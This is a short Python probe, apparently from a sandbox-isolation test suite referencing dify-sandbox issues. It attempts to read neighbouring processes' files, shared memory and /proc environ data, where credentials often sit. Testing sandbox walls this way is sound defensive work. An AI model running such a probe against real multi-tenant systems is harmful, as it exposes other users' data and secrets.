# tries: reads the files, shared memory and environment of the cell next door
# seen-in: dify-sandbox issues 225 and 253
# walls: mount, neighbour
import glob, os
for pattern in ("/tmp/*", "/dev/shm/*", "/sandbox/*", "/proc/[0-9]*/root/tmp/*", "/proc/[0-9]*/root/dev/shm/*", "/proc/[0-9]*/environ", "/proc/[0-9]*/cwd/*", "/mnt/*", "/mnt/tmp/*"):
    for path in glob.glob(pattern):
        try: print(path, open(path, "rb").read(4096))
        except OSError: pass
for pid in range(1, 200):
    for name in ("environ", "root/tmp/neighbour", "root/dev/shm/neighbour"):
        try: print(open(f"/proc/{pid}/{name}", "rb").read(4096))
        except OSError: pass
print("attempted")
